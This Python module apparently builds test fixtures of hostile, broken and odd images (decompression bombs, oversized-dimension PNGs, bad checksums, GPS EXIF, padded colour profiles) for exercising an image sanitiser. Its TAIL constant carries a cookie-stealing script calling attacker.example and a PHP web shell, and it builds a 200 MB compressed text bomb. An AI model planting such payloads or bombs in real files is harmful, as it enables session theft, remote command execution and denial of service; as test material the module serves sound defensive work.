"""Pictures that are hostile, broken or merely odd, made by code. `TAIL` is what a smuggler would hide."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

import pillow_heif
from PIL import Image, ImageCms, PngImagePlugin

TAIL = (
    b"<html><script>document.location='https://attacker.example/?c='+document.cookie</script>"
    b"<?php system($_GET['command']); ?> PK\x03\x04 smuggled bytes that nobody may ever get back</html>"
)

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def jpeg(size: tuple[int, int] = (120, 80), mode: str = "RGB", **options: object) -> bytes:
    written = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert(mode).save(written, "JPEG", **options)
    return written.getvalue()


def png(size: tuple[int, int] = (120, 80), mode: str = "RGB", **options: object) -> bytes:
    written = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert(mode).save(written, "PNG", **options)
    return written.getvalue()


def other_format(name: str) -> bytes:
    pillow_heif.register_heif_opener()
    written = io.BytesIO()
    Image.linear_gradient("L").resize((40, 30)).save(written, name)
    return written.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    """A chunk of a PNG with its check sum."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_header(width: int, height: int, *, bits: int = 8, colour: int = 2) -> bytes:
    return PNG_SIGNATURE + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0))


def png_claiming(width: int, height: int) -> bytes:
    """A few bytes that claim to be an enormous picture."""
    return png_header(width, height) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")


def png_flood(side: int) -> bytes:
    """A black picture that is really all there: 30,000 × 30,000 fit into some hundred kilobytes."""
    packer = zlib.compressobj(9)
    row = b"\0" * (side // 8 + 2)
    packed = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    return png_header(side, side, bits=1, colour=0) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def png_with_chunk(kind: bytes, content: bytes) -> bytes:
    """A sound picture with one more chunk before its end."""
    sound = png()
    return sound[:-12] + chunk(kind, content) + sound[-12:]


def png_with_wrong_check_sum() -> bytes:
    sound = bytearray(png())
    sound[30] ^= 0xFF
    return bytes(sound)


def png_text_bomb() -> bytes:
    """A compressed comment that unpacks to 200 megabytes."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(200)) + packer.flush()
    return png_with_chunk(b"zTXt", b"Comment\0\0" + packed)


def animated_png() -> bytes:
    written = io.BytesIO()
    frames = [Image.new("RGB", (60, 40), (shade, 0, 0)) for shade in (10, 120, 240)]
    frames[0].save(written, "PNG", save_all=True, append_images=frames[1:])
    return written.getvalue()


def png_with_text(text: str) -> bytes:
    comments = PngImagePlugin.PngInfo()
    comments.add_text("Comment", text)
    return png(pnginfo=comments)


def jpeg_claiming(width: int, height: int) -> bytes:
    """A JPEG whose frame header was overwritten with other dimensions."""
    sound = bytearray(jpeg())
    frame = sound.index(b"\xff\xc0")
    sound[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(sound)


def jpeg_with_exif(fill: Callable[[Image.Exif], None]) -> bytes:
    exif = Image.Exif()
    fill(exif)
    return jpeg(exif=exif.tobytes())


def exif_code(exif: Image.Exif) -> None:
    exif[0x010E] = TAIL.decode()


def exif_place(exif: Image.Exif) -> None:
    exif[0x010F] = "Sample camera"
    place = exif.get_ifd(0x8825)
    place.update({1: "N", 2: (39.0, 54.0, 20.0), 3: "E", 4: (116.0, 23.0, 29.0)})


def exif_turned(exif: Image.Exif) -> None:
    exif[0x0112] = 6


def colour_profile_with(content: bytes) -> bytes:
    """A true colour profile with something more at its end."""
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes() + content
